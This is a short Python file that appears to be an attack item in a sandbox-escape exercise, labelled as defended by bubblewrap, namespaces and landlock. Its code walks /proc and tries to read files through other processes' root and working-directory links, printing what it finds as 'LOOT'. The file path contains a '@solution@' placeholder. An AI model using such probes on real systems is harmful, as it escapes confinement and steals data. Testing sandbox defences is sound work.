# /// attack
# exercise = "gradient-argument"
# defended-by = ["bubblewrap", "namespaces", "landlock"]
# ///

# %% name="question"
import os

# The root or the working folder of whoever is in sight may lie outside these walls.
for number in filter(str.isdigit, os.listdir("/proc")):
    for door in ("root", "cwd/../../.."):
        try:
            with open(f"/proc/{number}/{door}@solution@") as file:
                print("LOOT:", file.read())
        except OSError:
            continue
